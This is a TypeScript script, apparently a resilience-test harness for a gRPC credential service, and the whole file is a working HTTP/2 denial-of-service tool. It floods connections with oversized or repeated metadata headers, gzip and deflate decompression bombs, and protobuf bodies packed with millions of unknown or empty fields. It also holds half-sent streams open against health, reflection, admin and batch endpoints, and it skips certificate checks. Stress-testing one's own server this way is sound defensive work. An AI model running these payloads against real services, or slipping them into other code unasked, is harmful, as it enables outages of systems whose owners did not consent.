import { once } from 'node:events';
import {
  connect,
  type ClientHttp2Session,
  type ClientHttp2Stream,
  type IncomingHttpHeaders,
  type OutgoingHttpHeaders,
} from 'node:http2';
import { connect as connectSocket } from 'node:net';
import { argv } from 'node:process';
import { connect as connectTls } from 'node:tls';
import { setTimeout as pause } from 'node:timers/promises';
import { deflateSync, gzipSync } from 'node:zlib';

// A stranger: `node attack.ts URL KIND CONNECTIONS CALLS PER_SECOND SOURCE`. Opens connections and makes so many calls of a
// kind on each, all at once or at a rate, of several kinds in turn where these are joined by `+`. Calls of a kind that is held
// are never ended. Reports what has become of them.

const [, , address = '', kind = '', connections = '1', calls = '1', perSecond = '0', localAddress = ''] =
  argv;

const ISSUE = '/callpass.v1.CredentialService/IssueCredentials';
const CHECK = '/grpc.health.v1.Health/Check';
const WATCH = '/grpc.health.v1.Health/Watch';
const REFLECT = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
const REFLECT_ALPHA = '/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo';
const APPLY = '/callpass.v1.AdminService/ApplyConfiguration';
const BATCH = '/callpass.v1.CredentialService/BatchIssueCredentials';
const MIB = 1024 * 1024;

interface Attack {
  readonly path: string;
  readonly headers?: OutgoingHttpHeaders;
  /** The message with its prefix. */
  readonly body: Buffer;
  /** The request is never complete. */
  readonly held?: boolean;
}

/** A message with its prefix; the flag says that it is compressed. */
function framed(message: Buffer, compressed = false): Buffer {
  const prefix = Buffer.alloc(5);
  prefix[0] = Number(compressed);
  prefix.writeUInt32BE(message.length, 1);
  return Buffer.concat([prefix, message]);
}

/** A message as a field of another, with a length of four bytes. */
function inField(number: number, message: Buffer): Buffer {
  const head = Buffer.from([(number << 3) | 2, 0, 0, 0, 0]);
  for (let at = 0; at < 4; at++) head[at + 1] = ((message.length >> (7 * at)) & 0x7f) | (at < 3 ? 0x80 : 0);
  return Buffer.concat([head, message]);
}

const EMPTY = framed(Buffer.alloc(0));
/** HTTP/2 sends a value once and then its index, one byte, for each time that it occurs. */
const COMMAS = { 'a-bin': Array<string>(25).fill(','.repeat(3000)) };
const SHORT_VALUES = { 'a-bin': Array<string>(25).fill('AA,'.repeat(1000)) };
/** Field 1000 as an empty text, again and again: two million fields that no message has. */
const UNKNOWN_FIELDS = Buffer.alloc(4 * MIB - 4, Buffer.from([0xc2, 0x3e, 0x00]));
const ZEROS = Buffer.alloc(4 * MIB - 64);

const ATTACKS: Readonly<Record<string, Attack>> = {
  commas: { path: ISSUE, headers: COMMAS, body: EMPTY },
  'commas-held': { path: ISSUE, headers: COMMAS, body: EMPTY, held: true },
  'short-values': { path: CHECK, headers: SHORT_VALUES, body: EMPTY },
  'long-value': { path: ISSUE, headers: { 'x-long': 'v'.repeat(60_000) }, body: EMPTY },
  'many-headers': {
    path: ISSUE,
    headers: Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`x-${i}`, ''])),
    body: EMPTY,
  },
  gzip: { path: ISSUE, headers: { 'grpc-encoding': 'gzip' }, body: framed(gzipSync(ZEROS), true) },
  deflate: { path: ISSUE, headers: { 'grpc-encoding': 'deflate' }, body: framed(deflateSync(ZEROS), true) },
  'unknown-fields': { path: CHECK, body: framed(UNKNOWN_FIELDS) },
  watch: { path: WATCH, body: EMPTY },
  reflect: { path: REFLECT, body: framed(Buffer.from([0x3a, 0x00])), held: true },
  'other-binary': {
    path: WATCH,
    headers: Object.fromEntries(
      Array.from({ length: 20 }, (_, i) => [`x-${i}-bin`, Array<string>(3).fill('AA, AAAA ,,='.repeat(80))]),
    ),
    body: EMPTY,
    held: true,
  },
  'near-bounds': {
    path: ISSUE,
    headers: {
      ...Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`x-${i}`, 'v'.repeat(1200)])),
      'a-bin': 'AA,'.repeat(15),
    },
    body: EMPTY,
  },
  'half-body': { path: ISSUE, body: framed(Buffer.alloc(32 * 1024)).subarray(0, 16 * 1024), held: true },
  'half-configuration': { path: APPLY, body: framed(ZEROS).subarray(0, 3 * MIB), held: true },
  'unknown-configuration': { path: APPLY, body: framed(UNKNOWN_FIELDS) },
  'unknown-items': {
    path: BATCH,
    body: framed(Buffer.concat(Array<Buffer>(100).fill(inField(1, UNKNOWN_FIELDS.subarray(0, 9000))))),
  },
  'unknown-batch': { path: BATCH, body: framed(UNKNOWN_FIELDS.subarray(0, MIB - 64)) },
  'empty-batch': { path: BATCH, body: framed(Buffer.alloc(MIB - 64, Buffer.from([0x0a, 0x00]))) },
  'empty-configuration': {
    path: APPLY,
    body: framed(inField(1, Buffer.alloc(4 * MIB - 8, Buffer.from([0x12, 0x00])))),
  },
  'empty-destinations': {
    path: APPLY,
    body: framed(inField(1, Buffer.alloc(400_000, Buffer.from([0x12, 0x00])))),
  },
  'repeated-field': { path: APPLY, body: framed(Buffer.alloc(4 * MIB - 4, Buffer.from([0x10, 0x01]))) },
  open: { path: ISSUE, body: Buffer.alloc(0), held: true },
  'reflect-alpha': { path: REFLECT_ALPHA, body: framed(Buffer.from([0x3a, 0x00])), held: true },
  'bad-bytes': {
    path: ISSUE,
    headers: { authorization: 'Bearer canary-of-a-stranger\xe9', 'x-name': 'canary-of-a-stranger\xe9' },
    body: EMPTY,
  },
};

const attacks = kind.split('+').map((name) => {
  const attack = ATTACKS[name];
  if (attack === undefined) throw new Error(`no attack is named ${name}`);
  return attack;
});

/** Calls by what became of them: the gRPC status, `open` or `lost`. */
const outcome: { sent: number; lostConnections: number; ended: Record<string, number> } = {
  sent: 0,
  lostConnections: 0,
  ended: {},
};

function open(): ClientHttp2Session {
  const { protocol, hostname: host, port } = new URL(address);
  const session = connect(address, {
    createConnection: () => {
      const socket = connectSocket({ host, port: Number(port), localAddress });
      return protocol === 'http:'
        ? socket
        : connectTls({ socket, rejectUnauthorized: false, ALPNProtocols: ['h2'] });
    },
    maxSendHeaderBlockLength: MIB,
    maxSessionMemory: 1024,
  });
  session.on('error', () => undefined);
  session.once('close', () => outcome.lostConnections++);
  return session;
}

function call(
  session: ClientHttp2Session,
  { path, headers, body, held }: Attack,
): ClientHttp2Stream | undefined {
  if (session.destroyed || session.closed) return undefined;
  const stream = session.request({
    ':method': 'POST',
    ':path': path,
    'content-type': 'application/grpc',
    te: 'trailers',
    ...headers,
  });
  outcome.sent++;
  let status: string | undefined;
  const read = (headers: IncomingHttpHeaders) => {
    status = headers['grpc-status']?.toString() ?? status;
  };
  stream.on('response', read).on('trailers', read);
  stream.on('error', () => undefined);
  stream.on('close', () => {
    const name = status ?? `reset ${stream.rstCode}`;
    outcome.ended[name] = (outcome.ended[name] ?? 0) + 1;
  });
  stream.resume();
  if (held) stream.write(body);
  else stream.end(body);
  return stream;
}

const sessions = Array.from({ length: Number(connections) }, open);
await Promise.all(sessions.map((session) => once(session, 'remoteSettings').catch(() => undefined)));
const rate = Number(perSecond);
for (let made = 0; made < Number(calls); made++) {
  for (const session of sessions) call(session, attacks[made % attacks.length] as Attack);
  if (rate > 0) await pause((1000 * sessions.length) / rate);
}
const underWay = () => outcome.sent - Object.values(outcome.ended).reduce((sum, count) => sum + count, 0);
// What is refused is refused by then; what is held stays until this process is ended.
const untilMs = performance.now() + 2000;
while (underWay() > 0 && performance.now() < untilMs) await pause(20);
process.send?.({ ...outcome, done: true });
setInterval(() => process.send?.({ ...outcome, done: true }), 500);
